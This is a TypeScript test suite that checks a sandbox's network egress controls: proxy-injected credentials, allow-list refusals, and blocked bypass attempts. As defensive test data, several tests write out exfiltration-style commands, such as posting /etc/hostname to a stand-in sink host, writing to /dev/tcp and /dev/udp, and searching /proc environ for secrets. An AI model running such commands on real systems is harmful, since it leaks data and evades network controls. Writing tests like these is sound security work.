import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Egress, Runtime } from '../../core/ports.ts'
import { eventually, type RuntimeWorld, run, startIn } from '../runtime-contract.ts'
import {
  bigBody,
  canary,
  canaryAsBasic,
  closedSession,
  type EgressHost,
  listedSession,
  openEgressHost,
} from './egress-host.ts'

/** What every sandbox that keeps its network to itself promises of the way out; `open` makes a world with one. */
export function egressContract(name: string, open: (egress: Egress) => Promise<RuntimeWorld>): void {
  describe(`the way out of ${name}`, () => {
    let host: EgressHost
    let world: RuntimeWorld
    let runtime: Runtime
    before(async () => {
      host = await openEgressHost()
      world = await open(host.egress)
      runtime = await startIn(world.runtimes, await world.directory(), listedSession)
    })
    after(async () => {
      await runtime?.[Symbol.asyncDispose]()
      await world?.[Symbol.asyncDispose]()
      await host?.[Symbol.asyncDispose]()
    })
    const promise = (rule: string, body: () => Promise<void>): void => void test(rule, { timeout: 120_000 }, body)
    const output = async (command: string): Promise<string> => {
      const result = await run(runtime, command, 60_000)
      assert.equal(result.exitCode, 0, `${command}\n${result.output}`)
      return result.output
    }

    promise('[F24] curl reaches an API that wants a token, which nobody inside has', async () => {
      assert.equal(await output(`curl -sS https://api.test:${host.api.port}/hello`), 'welcome to /hello\n')
      const posted = `curl -sS -H 'Authorization: Bearer placeholder' -d x=1 https://api.test:${host.api.port}/post`
      assert.equal(await output(posted), 'welcome to /post\n')
      assert.deepEqual(host.api.requests.slice(-1), ['POST /post'])
    })

    promise('[F24] Python’s own client does too', async () => {
      const url = `https://api.test:${host.api.port}/python`
      const program = `import urllib.request; print(urllib.request.urlopen("${url}").read().decode(), end="")`
      assert.equal(await output(`/usr/bin/python3 -c '${program}'`), 'welcome to /python\n')
    })

    promise('[F24] git clones from and pushes to a server that wants a password', async () => {
      const url = `https://git.test:${host.git.port}/project.git`
      const identity = 'git config user.name a && git config user.email a@example.com'
      await output(`git clone -q ${url} project 2>&1 && cd project && ${identity} && cd ..`)
      await output('cd project && head -c 3000000 /dev/urandom > big && git add big && git commit -qm first && cd ..')
      await output('git -C project push -q origin HEAD:main')
      assert.equal(
        execFileSync('git', ['-C', join(host.repositories, 'project.git'), 'log', '--format=%s', 'main']).toString(),
        'first\n',
      )
      await output(`git clone -q ${url} again && cmp again/big project/big`)
      assert.ok(host.git.requests.some(each => each.startsWith('POST ')))
    })

    promise('[F24] npm installs from a registry that wants a token', async () => {
      const registry = `https://npm.test:${host.npm.port}/`
      const installed = await run(
        runtime,
        `mkdir -p app && cd app && echo '{}' > package.json && npm install --no-audit --no-fund --registry ${registry} private-greeting; cd ..`,
        60_000,
      )
      assert.match(installed.output, /added 1 package/)
      assert.equal(await output(`cd app && node -p 'require("private-greeting")'; cd ..`), 'hello from the registry\n')
      assert.ok(host.npm.requests.includes('GET /private-greeting/-/private-greeting-1.2.3.tgz'))
    })

    promise('[F24] [S19] after all that the secret is nowhere inside', async () => {
      const places =
        '/proc/[0-9]*/environ /proc/[0-9]*/cmdline "$HOME" /workspace /tmp /openhands/egress /openhands/state'
      for (const form of [canary, canaryAsBasic, Buffer.from(canary).toString('base64').slice(0, -4)]) {
        // In two halves, or the command would find itself.
        const command = `a=${form.slice(0, 6)}; b=${form.slice(6)}; grep -raqsF -- "$a$b" ${places} && echo found; env | grep -qF -- "$a$b" && echo found; true`
        assert.equal(await output(command), '', form)
      }
      const proof = 'echo kept-here > /tmp/proof; grep -raqsF kept-here /tmp && echo found'
      assert.equal(await output(proof), 'found\n', 'the search finds what is there')
      const shown = `curl -sSv https://api.test:${host.api.port}/ 2>&1; curl -sS http://plain.test:${host.plain.port}/`
      assert.ok(!(await output(shown)).includes(canary))
    })

    promise('[S21] the token goes to nobody but its host', async () => {
      const headers = await output(`curl -sS http://plain.test:${host.plain.port}/`)
      assert.equal(JSON.parse(headers).authorization, undefined)
      const wrong = await run(runtime, `curl -sS -k https://plain.test:${host.api.port}/`)
      assert.match(wrong.output, /Network access to plain.test:\d+ was refused: it is not on the allow-list/)
    })

    promise(
      '[S28] a refusal is in the command’s output, though the program that was refused says nothing of it',
      async () => {
        const result = await run(runtime, 'curl -s https://example.com/')
        assert.notEqual(result.exitCode, 0)
        assert.equal(
          result.output,
          '[Network access to example.com:443 was refused: it is not on the allow-list. To allow it, start the server with --egress-allow example.com:443 or add it to EGRESS_ALLOW.]\n',
        )
        assert.equal((await run(runtime, 'echo next')).output, 'next\n', 'it is told once')
        assert.match(
          (await run(runtime, 'curl -s http://example.com/')).output,
          /^Network access to example.com:80 was refused[\s\S]*\n\[Network access/,
        )
      },
    )

    promise('[S28] nothing of the host is reached but the proxy', async () => {
      const { port } = host.sink
      const before = host.sink.count()
      const tries = [
        `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/`,
        `curl -sS -m 5 --noproxy '*' http://1.1.1.1/`,
        `curl -sS -m 5 http://127.0.0.1:${port}/`,
        `curl -sS -m 5 --noproxy no http://127.0.0.1:${port}/`,
        `curl -sS -m 5 --noproxy no --fail http://0x7f.1:${port}/`,
        `curl -sS -m 5 http://plain.test:${port}/ --fail`,
        `timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'`,
        `touch /openhands/egress/x`,
        'mv /openhands/egress/proxy.sock /openhands/egress/y',
        'echo x >> /openhands/egress/ca.crt',
      ]
      for (const command of tries) {
        const result = await run(runtime, command)
        // A program may be content with the proxy's own answer.
        assert.ok(result.exitCode !== 0 || result.output.includes('was refused'), `${command}\n${result.output}`)
      }
      assert.equal(host.sink.count(), before)
      assert.equal(await output('ls -1 /openhands/egress'), 'ca.crt\nproxy.sock\n')
    })

    promise('bytes come through exactly, in bulk, many at once, and with an end in one direction only', async () => {
      const url = `http://plain.test:${host.plain.port}/big`
      const sum = createHash('sha256').update(bigBody).digest('hex')
      assert.equal(await output(`curl -sS ${url} | sha256sum`), `${sum}  -\n`)
      assert.equal(await output(`curl -sS -p ${url} | sha256sum`), `${sum}  -\n`)
      const many = `for i in $(seq 40); do curl -sS http://plain.test:${host.plain.port}/ -o /dev/null -w '%{http_code}\\n' & done | sort | uniq -c; wait`
      assert.match(await output(many), /^ *40 200\n/)
      const program = [
        'import socket',
        's = socket.create_connection(("127.0.0.1", 3128))',
        `s.sendall(b"CONNECT echo.test:${host.echo.port} HTTP/1.1\\r\\n\\r\\n")`,
        'head = s.recv(4096)',
        's.sendall(b"x" * 1000000)',
        's.shutdown(socket.SHUT_WR)',
        'got = 0',
        'while True:',
        '    part = s.recv(65536)',
        '    if not part: break',
        '    got += len(part)',
        'print(head[:12].decode(), got)',
      ]
      const echoed = await output(
        `cat > half.py <<'END'\n${program.join('\n')}\nEND\ntimeout 30 /usr/bin/python3 half.py`,
      )
      assert.equal(echoed, 'HTTP/1.1 200 1000000\n')
    })

    promise('the port of the proxy is taken before the first command, and stays', async () => {
      const taken = await run(runtime, 'timeout 10 /usr/bin/python3 -m http.server 3128 --bind 127.0.0.1')
      assert.match(taken.output, /Address already in use/)
    })

    promise('[S34] without network access nothing gets out, whatever is tried, and each try is told', async () => {
      await using alone = await startIn(world.runtimes, await world.directory(), closedSession)
      const before = [host.sink.count(), host.resolved.length, host.api.requests.length]
      const tries = [
        `curl -sS -m 10 -d @/etc/hostname http://sink.test:${host.sink.port}/`,
        `curl -sS -m 10 https://api.test:${host.api.port}/`,
        `git -c http.lowSpeedTime=5 push https://sink.test:${host.sink.port}/x.git HEAD`,
        `git ls-remote https://sink.test:${host.sink.port}/x.git`,
        `npm view --fetch-retries=0 --registry https://sink.test:${host.sink.port}/ left`,
        `timeout 10 getent hosts stolen.sink.test`,
        `timeout 10 bash -c 'echo stolen > /dev/udp/1.1.1.1/53'`,
        `timeout 10 bash -c 'echo stolen > /dev/tcp/127.0.0.1/${host.sink.port}'`,
      ]
      const outputs: string[] = []
      for (const command of tries) {
        const result = await run(alone, command, 60_000)
        assert.ok(result.exitCode !== 0 || result.output.includes('was refused'), `${command}\n${result.output}`)
        outputs.push(result.output)
      }
      assert.deepEqual([host.sink.count(), host.resolved.length, host.api.requests.length], before)
      const told =
        /Network access to sink.test:\d+ was refused: this session has no network access\. To allow it, start the server with --egress-allow sink.test:\d+ /
      for (const index of [0, 3, 4]) assert.match(outputs[index] ?? '', told)
    })

    promise('what was open is gone with its sandbox', async () => {
      const connections = async (): Promise<number> => {
        const { promise: counted, resolve } = Promise.withResolvers<number>()
        host.echo.server.getConnections((_error, count) => resolve(count))
        return counted
      }
      const other = await startIn(world.runtimes, await world.directory(), listedSession + 1)
      const tunnel = `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT echo.test:${host.echo.port} HTTP/1.1\\r\\n\\r\\n' >&3; head -c 12 <&3`
      assert.equal((await run(other, tunnel)).output, 'HTTP/1.1 200')
      assert.equal(await connections(), 1)
      await other[Symbol.asyncDispose]()
      await eventually(async () => (await connections()) === 0, 'the connection is closed')
    })
  })
}
